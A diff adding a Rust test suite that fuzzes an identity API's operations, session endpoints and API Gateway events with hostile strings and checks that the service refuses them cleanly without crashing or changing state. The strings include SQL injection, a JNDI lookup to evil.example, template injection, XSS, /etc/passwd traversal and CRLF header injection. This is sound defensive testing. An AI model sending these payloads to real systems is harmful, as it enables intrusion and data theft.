@@ -1,0 +1,168 @@
+//! Values that nobody means well with, in every parameter of every operation
+
+use serde_json::{Map, Value, json};
+
+use crate::harness::{Answer, Latchkey, OPERATIONS, Operation, Template, borrowed, event, latchkey};
+
+fn hostile_texts() -> Vec<String> {
+    let mut all: Vec<String> = [
+        "\0",
+        "a\0b@example.com\0",
+        "\u{202e}moc.elpmaxe@resu",
+        "\u{200b}\u{feff}\u{2060}",
+        "\u{1f40e}\u{200d}\u{1f525}",
+        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
+        "\u{fdfa}\u{10ffff}\u{e000}",
+        "%",
+        "%00%ff%zz",
+        "' OR '1'='1' --",
+        "\"; DROP TABLE users; --",
+        "{\"S\":\"USER#admin\"}",
+        "USER#nobody",
+        "SESSION#*",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}}<%= 7*7 %>",
+        "<script>alert(1)</script>",
+        "../../../../etc/passwd",
+        "a\r\nSet-Cookie: x=y\r\n\r\nbody",
+        "-1",
+        "NaN",
+        "1e309",
+        "99999999999999999999999999999999",
+        "true",
+        "null",
+        "[object Object]",
+        "\u{661}\u{662}\u{663}\u{664}\u{665}\u{666}",
+    ]
+    .map(str::to_owned)
+    .into();
+    all.extend([
+        "\u{1f40e}".repeat(250),
+        "a".repeat(1000),
+        "[".repeat(1000),
+        "a@".repeat(120),
+        "\\".repeat(1000),
+        "(".repeat(64),
+    ]);
+    all
+}
+
+fn object(fields: &[(&str, String)]) -> Value {
+    fields.iter().map(|(name, value)| ((*name).to_owned(), json!(value))).collect::<Map<_, _>>().into()
+}
+
+/// Asserts that an operation refuses in the words of the contract, or answers what it always answers.
+#[track_caller]
+fn is_an_answer(operation: &Operation, answer: &Answer, what: &str) {
+    let always_answers = ["/identity/password/validate", "/identity/users/email/generate_code"].contains(&operation.path);
+    if answer.status == 201 && always_answers {
+        return;
+    }
+    assert!((400..500).contains(&answer.status), "{what}: {answer:?}");
+    assert_eq!(answer.header("set-cookie"), None, "{what}");
+    let body = answer.json();
+    let keys = body["errors"].as_array().unwrap_or_else(|| panic!("{what}: {answer:?}"));
+    let is_key = |key: &Value| {
+        key.as_str().is_some_and(|key| key.contains('.') && key.bytes().all(|c| c.is_ascii_lowercase() || b"._".contains(&c)))
+    };
+    assert!(!keys.is_empty() && keys.iter().all(is_key), "{what}: {answer:?}");
+}
+
+#[tokio::test]
+async fn hostile_texts_are_refused_and_change_nothing() {
+    let latchkey = Latchkey::start(&[]).await;
+    let user = latchkey.signed_up("hostile").await;
+    let before = latchkey.everything().await;
+    for operation in OPERATIONS {
+        // An address that has an account cannot sign up; one that has none gets no code.
+        let email = if operation.path.ends_with("generate_code") { "nobody@example.com" } else { &user.email };
+        for (name, _) in operation.parameters {
+            for (number, text) in hostile_texts().iter().enumerate() {
+                let fields = operation.harmless_but(email, name, text);
+                let request = latchkey.post(operation.path);
+                let request = if number % 2 == 0 { request.form(&borrowed(&fields)) } else { request.json(&object(&fields)) };
+                is_an_answer(&operation, &request.send().await, &format!("{} {name}: {text:?}", operation.path));
+            }
+        }
+        assert_eq!(latchkey.everything().await, before, "{}", operation.path);
+    }
+}
+
+#[tokio::test]
+async fn hostile_sessions_are_not_found() {
+    let latchkey = latchkey().await;
+    let path = "/identity/sessions";
+    for token in hostile_texts().iter().filter(|text| text.bytes().all(|byte| byte >= b' ' && byte != b';')) {
+        for request in [
+            latchkey.sign_out(token),
+            latchkey.delete(path).bearer(token),
+            latchkey.delete(path).header("cookie", format!("a={token}; _barong_session={token}")),
+        ] {
+            let answer = request.send().await;
+            // What is not ASCII is no token at all, and may count as none.
+            let statuses: &[u16] = if token.is_ascii() { &[404] } else { &[400, 404] };
+            assert!(statuses.contains(&answer.status), "{token:?}: {answer:?}");
+        }
+    }
+    let long = "a".repeat(6000);
+    latchkey.sign_out(&long).send().await.is_refused(404, &["identity.session.not_found"]);
+    let dots = ".".repeat(6000);
+    latchkey.delete(path).bearer(&dots).send().await.is_refused(404, &["identity.session.not_found"]);
+}
+
+#[tokio::test]
+async fn hostile_events_are_answered() {
+    let latchkey = latchkey().await;
+    for function in Template::read().functions {
+        for (method, path) in &function.routes {
+            // What API Gateway takes for a query string or a header.
+            for text in [
+                "a b",
+                "[",
+                "<script>",
+                "%zz&\u{fc}& #",
+                "a=\"b\"&c=`d`|{e}\\^",
+                "\u{1f40e}",
+                "%ff%00",
+                "http://evil.example/?@#",
+                "=;=,;",
+            ] {
+                let mut event = event(method, path);
+                event["rawQueryString"] = json!(text);
+                event["queryStringParameters"] = json!({ text: text });
+                event["cookies"] = json!([text, format!("_barong_session={text}")]);
+                event["requestContext"]["domainName"] = json!(text);
+                event["requestContext"]["http"]["sourceIp"] = json!(text);
+                event["requestContext"]["http"]["userAgent"] = json!(text);
+                event["headers"]["host"] = json!(text);
+                if method == "POST" {
+                    event["headers"]["content-type"] = json!("application/json");
+                    event["body"] = json!(text);
+                }
+                let answer = latchkey.invoke(&function.logical_id, event).await;
+                let status = answer.as_ref().ok().and_then(|answer| answer["statusCode"].as_u64());
+                assert!(status.is_some_and(|status| status < 500), "{} {text:?}: {answer:?}", function.logical_id);
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_body_that_claims_to_be_base64_and_is_not_is_no_failure_of_the_server() {
+    let latchkey = latchkey().await;
+    let template = Template::read();
+    for operation in OPERATIONS {
+        let function = template
+            .functions
+            .iter()
+            .find(|function| function.routes.contains(&("POST".to_owned(), operation.path.to_owned())))
+            .unwrap();
+        let mut event = event("POST", operation.path);
+        event["headers"]["content-type"] = json!("application/json");
+        event["body"] = json!("{no base64}");
+        event["isBase64Encoded"] = json!(true);
+        let answer = latchkey.invoke(&function.logical_id, event).await.unwrap();
+        assert_eq!(answer["statusCode"], 400, "{answer}");
+        assert_eq!(answer["body"], r#"{"errors":["request.malformed_body"]}"#, "{answer}");
+    }
+}
